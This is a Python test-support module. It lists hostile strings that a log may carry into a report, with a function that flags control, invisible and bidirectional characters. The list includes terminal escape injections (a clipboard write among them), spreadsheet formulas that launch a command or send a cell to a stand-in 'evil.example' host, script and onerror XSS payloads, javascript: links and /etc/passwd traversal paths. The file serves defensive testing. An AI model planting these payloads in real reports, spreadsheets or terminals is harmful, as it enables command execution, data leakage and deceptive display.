"""Strings that a log may hold to harm whoever reads the report, and a search for what must not get through."""

import unicodedata

HOSTILE = {
    "clear screen": "\x1b[2J\x1b[H",
    "colour": "\x1b[31mred\x1b[0m",
    "set title": "\x1b]0;owned\x07",
    "hyperlink": "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "clipboard": "\x1b]52;c;cm0gLXJm\x07",
    "query that types an answer": "\x1b[6n\x1b[c\x05",
    "C1 control sequence": "\x9b31mred",
    "C1 string": "\x9d0;owned\x9c",
    "backspaces": "benign" + "\x08" * 6 + "HIGH  ",
    "carriage return": "harmless\rextractscan: all is well",
    "newline": "first\n1  acct-0001  none  0.000",
    "tab": "a\tb",
    "vertical tab and form feed": "a\x0bb\x0cc",
    "null": "a\x00b",
    "delete": "a\x7fb",
    "next line": "a\x85b",
    "line and paragraph separator": "a\u2028b\u2029c",
    "right-to-left override": "acct\u202etxt.exe\u202c",
    "isolates": "\u2066\u2067\u2068a\u2069",
    "marks of direction": "\u200ea\u200fb\u061cc",
    "zero width": "ac\u200bct\u200c\u200d\u2060\ufeff",
    "soft hyphen": "ac\u00adct",
    "tag characters": "a\U000e0041\U000e0042\U000e007f",
    "variation selectors": "a\ufe0e\ufe0fb\U000e0100",
    "blank letters": "a\u3164\u115f\u1160\uffa0\u2800b",
    "no-break spaces": "a\u00a0\u202f\u2007b",
    "lone surrogates": "a\ud800b\udc80c\udfff",
    "surrogates in a row": "\ud83d\ude00",
    "noncharacters": "a\uffff\ufdd0\U0010ffff",
    "private use": "\ue0b0\U000f0000",
    "stacked marks": "a" + "\u0301\u0489" * 40,
    "mark at the start": "\u0338 not",
    "stacked jamo": "\u1100" + "\u1161" * 60,
    "right-to-left letters": "\u05d0\u05d1\u05d2 12 345",
    "wide": "\u6f22\u5b57" * 30,
    "emoji sequence": "\U0001f469\u200d\U0001f4bb",
    "markup end": "[/]",
    "markup": "[bold red]x[/bold red] [link=https://evil.example]y[/link]",
    "markup escape": "\\[bold]x",
    "unbalanced markup": "[/not-open][[[",
    "emoji code": ":bomb: :skull:",
    "style braces": "{task.description} {0} %s %n",
    "formula": '=HYPERLINK("https://evil.example?"&A1,"x")',
    "command": "=cmd|' /C calc'!A0",
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)",
    "formula after blanks": "  \u00a0 =1+1",
    "formula after a tab": "\t=1+1",
    "formula after a return": "\r=1+1",
    "full-width formula": "\uff1d1+1",
    "full-width plus, minus, at": "\uff0b1 \uff0d1 \uff20x",
    "full-width minus first": "\uff0d1+1",
    "small at sign": "\ufe6bx",
    "minus sign": "\u22121+1",
    "formula after a semicolon": "a;=1+1; @b;+c",
    "quote and formula": '",=1+1,"',
    "quotes and commas": 'a,"b",\r\nc',
    "script": "<script>alert(1)</script>",
    "image": "<img src=x onerror=alert(1)>\"'`",
    "JSON": '"},{"severity":"none","x":"\\',
    "Markdown": "[x](javascript:alert(1)) ![](https://evil.example/p.png) `a` | b | **c** # d",
    "autolink": "https://evil.example www.evil.example me@evil.example",
    "path": "../../etc/passwd",
    "absolute path": "/etc/passwd",
    "Windows path": "C:\\con\\..\\nul",
    "device": "con",
    "hidden file": ".bashrc",
    "option": "-rf",
    "home": "~root",
    "empty": "",
    "blanks": "   ",
    "number": "-1.5e3",
    "long": "x" * 5000,
    "long and wide": "\u5b57" * 3000,
    "words": "word " * 1000,
}


def harmful(text, *, allowed=""):
    """Return the characters of ``text`` that act on a terminal, hide, or are no characters; by rules other than the code's."""
    found = []
    for character in text:
        if character in allowed:
            continue
        category = unicodedata.category(character)
        invisible = unicodedata.bidirectional(character) in {
            "LRE", "RLE", "LRO", "RLO", "PDF", "LRI", "RLI", "FSI", "PDI", "BN",
        }  # fmt: skip
        selector = "VARIATION SELECTOR" in unicodedata.name(character, "")
        filler = "FILLER" in unicodedata.name(character, "")
        if category in {"Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp"} or invisible or selector or filler:
            found.append(character)
    return found
